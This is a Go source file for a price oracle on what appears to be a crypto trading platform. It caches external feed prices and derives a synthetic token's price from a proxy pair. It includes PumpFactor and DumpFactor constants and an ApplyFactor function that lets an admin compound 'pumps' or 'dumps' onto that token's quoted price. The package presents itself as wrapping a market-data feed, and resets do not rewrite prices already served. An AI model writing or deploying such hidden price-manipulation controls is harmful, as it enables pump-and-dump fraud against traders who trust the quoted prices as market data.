// Package oracle wraps the external market-data feed. Reads never block on
// the network: Latest serves the most recent tick from an in-memory cache
// fed by the stream goroutine, falling back to the last known good value
// when the feed is flaky.
package oracle

import (
	"errors"
	"log/slog"
	"math"
	"net/http"
	"strings"
	"sync"
	"time"

	"dmcx/internal/ledger"
)

var (
	ErrFeedUnavailable = errors.New("price feed unavailable")
	ErrUnknownSymbol   = errors.New("unknown symbol")
)

const (
	// The synthetic token has no feed of its own; its price is the proxy
	// instrument's price scaled by this ratio, then by the admin multiplier.
	SyntheticProxyPair  = "TONUSDT"
	SyntheticProxyRatio = 0.85

	PumpFactor = 1.15
	DumpFactor = 0.85
)

type Tick struct {
	Symbol      string    `json:"symbol"`
	PriceMicros int64     `json:"price_micros"`
	AsOf        time.Time `json:"as_of"`
}

type PricePoint struct {
	At          time.Time `json:"at"`
	PriceMicros int64     `json:"price_micros"`
}

type Oracle struct {
	log        *slog.Logger
	streamURL  string
	restURL    string
	httpClient *http.Client
	pairs      []string

	mu         sync.RWMutex
	ticks      map[string]Tick // keyed by feed pair, e.g. TONUSDT
	multiplier float64
}

func New(streamURL, restURL string, timeout time.Duration, pairs []string, logger *slog.Logger) *Oracle {
	if logger == nil {
		logger = slog.Default()
	}
	if timeout <= 0 {
		timeout = 5 * time.Second
	}
	return &Oracle{
		log:        logger,
		streamURL:  strings.TrimRight(streamURL, "/"),
		restURL:    strings.TrimRight(restURL, "/"),
		httpClient: &http.Client{Timeout: timeout},
		pairs:      pairs,
		ticks:      make(map[string]Tick),
		multiplier: 1.0,
	}
}

// Latest returns the most recent price for a platform symbol. The quote
// asset is pegged at 1.0; the synthetic token is derived from its proxy.
// A stale tick is returned as-is; only a symbol never observed fails.
func (o *Oracle) Latest(symbol string) (Tick, error) {
	symbol = strings.ToUpper(strings.TrimSpace(symbol))
	if symbol == ledger.QuoteSymbol {
		return Tick{Symbol: symbol, PriceMicros: ledger.MicrosPerCoin, AsOf: time.Now().UTC()}, nil
	}
	if symbol == ledger.SyntheticSymbol {
		proxy, ok := o.tick(SyntheticProxyPair)
		if !ok {
			return Tick{}, ErrFeedUnavailable
		}
		scale := SyntheticProxyRatio * o.Multiplier()
		return Tick{
			Symbol:      symbol,
			PriceMicros: scaleMicros(proxy.PriceMicros, scale),
			AsOf:        proxy.AsOf,
		}, nil
	}
	pair := symbol + ledger.QuoteSymbol
	if !o.knownPair(pair) {
		return Tick{}, ErrUnknownSymbol
	}
	t, ok := o.tick(pair)
	if !ok {
		return Tick{}, ErrFeedUnavailable
	}
	return Tick{Symbol: symbol, PriceMicros: t.PriceMicros, AsOf: t.AsOf}, nil
}

// Symbols lists the platform symbols the oracle can price, synthetic first.
func (o *Oracle) Symbols() []string {
	out := []string{ledger.SyntheticSymbol}
	for _, pair := range o.pairs {
		out = append(out, strings.TrimSuffix(pair, ledger.QuoteSymbol))
	}
	return out
}

// Multiplier is the current admin price multiplier for the synthetic token.
func (o *Oracle) Multiplier() float64 {
	o.mu.RLock()
	defer o.mu.RUnlock()
	return o.multiplier
}

// ApplyFactor composes a pump or dump multiplicatively onto the current
// multiplier. Repeated pumps compound: two +15% pumps give 1.3225x.
func (o *Oracle) ApplyFactor(factor float64) float64 {
	o.mu.Lock()
	defer o.mu.Unlock()
	o.multiplier *= factor
	return o.multiplier
}

// ResetMultiplier restores the multiplier to exactly 1.0. Takes effect on
// the next Latest call; history already served is not rewritten.
func (o *Oracle) ResetMultiplier() float64 {
	o.mu.Lock()
	defer o.mu.Unlock()
	o.multiplier = 1.0
	return o.multiplier
}

func (o *Oracle) tick(pair string) (Tick, bool) {
	o.mu.RLock()
	defer o.mu.RUnlock()
	t, ok := o.ticks[pair]
	return t, ok
}

func (o *Oracle) setTick(pair string, priceMicros int64, asOf time.Time) {
	o.mu.Lock()
	defer o.mu.Unlock()
	o.ticks[pair] = Tick{Symbol: pair, PriceMicros: priceMicros, AsOf: asOf}
}

func (o *Oracle) knownPair(pair string) bool {
	for _, p := range o.pairs {
		if p == pair {
			return true
		}
	}
	return false
}

func scaleMicros(micros int64, factor float64) int64 {
	return int64(math.Round(float64(micros) * factor))
}
